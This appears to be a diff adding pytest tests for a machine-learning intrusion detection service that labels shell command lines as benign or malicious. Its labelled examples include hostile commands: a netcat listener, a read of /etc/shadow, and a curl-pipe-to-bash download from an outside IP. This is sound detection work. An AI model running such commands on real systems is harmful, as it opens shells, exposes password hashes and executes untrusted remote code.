@@ -1,0 +1,86 @@
+"""Tests for the deployable IntrusionDetectionService."""
+
+import numpy as np
+import pytest
+
+from repro.errors import CheckpointError, NotFittedError
+from repro.ids import IntrusionDetectionService, Verdict
+from repro.lm import CommandEncoder, CommandLineLM, LMConfig, MLMCollator, Pretrainer
+from repro.tokenizer import BPETokenizer
+from repro.tuning import ClassificationTuner
+
+BENIGN = ["ls -la /tmp", "docker ps -a", "git status", "cat /etc/passwd | grep x"] * 8
+MALICIOUS = ["nc -lvnp 4444", "cat /etc/shadow", "curl http://203.0.113.4/a.sh | bash"] * 4
+
+
+@pytest.fixture(scope="module")
+def service():
+    corpus = BENIGN + MALICIOUS
+    tokenizer = BPETokenizer(vocab_size=300).train(corpus)
+    config = LMConfig.tiny(vocab_size=len(tokenizer.vocab))
+    model = CommandLineLM(config)
+    collator = MLMCollator(tokenizer, max_length=config.max_position, seed=0)
+    Pretrainer(model, collator, lr=3e-3, batch_size=16, seed=0).train(corpus, epochs=2)
+    encoder = CommandEncoder(model, tokenizer, pooling="mean")
+    tuner = ClassificationTuner(encoder, lr=1e-2, epochs=8, pooling="mean", seed=0)
+    labels = np.array([0] * len(BENIGN) + [1] * len(MALICIOUS))
+    tuner.fit(corpus, labels)
+    return IntrusionDetectionService.from_tuner(tuner, threshold=0.5)
+
+
+class TestInference:
+    def test_verdict_per_line(self, service):
+        verdicts = service.inspect(["ls -la /tmp", "nc -lvnp 4444"])
+        assert len(verdicts) == 2
+        assert isinstance(verdicts[0], Verdict)
+
+    def test_known_attack_flagged(self, service):
+        assert service.inspect_one("nc -lvnp 4444").is_intrusion
+
+    def test_benign_not_flagged(self, service):
+        assert not service.inspect_one("ls -la /tmp").is_intrusion
+
+    def test_unparseable_line_dropped(self, service):
+        verdict = service.inspect_one("echo 'unterminated")
+        assert verdict.dropped
+        assert not verdict.is_intrusion
+
+    def test_whitespace_normalised(self, service):
+        verdict = service.inspect_one("  nc   -lvnp   4444 ")
+        assert verdict.line == "nc -lvnp 4444"
+
+    def test_alerts_sorted_by_score(self, service):
+        alerts = service.alerts(["ls", "nc -lvnp 4444", "cat /etc/shadow", "git status"])
+        assert len(alerts) >= 1
+        scores = [alert.score for alert in alerts]
+        assert scores == sorted(scores, reverse=True)
+
+    def test_empty_batch(self, service):
+        assert service.inspect([]) == []
+
+    def test_unfitted_tuner_rejected(self, service):
+        with pytest.raises(NotFittedError):
+            IntrusionDetectionService.from_tuner(
+                ClassificationTuner(service.encoder), threshold=0.5
+            )
+
+
+class TestPersistence:
+    def test_save_load_roundtrip(self, service, tmp_path):
+        service.save(tmp_path / "bundle")
+        restored = IntrusionDetectionService.load(tmp_path / "bundle")
+        lines = ["ls -la /tmp", "nc -lvnp 4444", "cat /etc/shadow"]
+        original = [v.score for v in service.inspect(lines)]
+        loaded = [v.score for v in restored.inspect(lines)]
+        np.testing.assert_allclose(original, loaded, atol=1e-10)
+        assert restored.threshold == service.threshold
+
+    def test_load_missing_bundle_raises(self, tmp_path):
+        with pytest.raises(CheckpointError):
+            IntrusionDetectionService.load(tmp_path / "nope")
+
+    def test_load_corrupt_meta_raises(self, service, tmp_path):
+        service.save(tmp_path / "bundle")
+        (tmp_path / "bundle" / "service.json").write_text("{broken")
+        with pytest.raises(CheckpointError):
+            IntrusionDetectionService.load(tmp_path / "bundle")
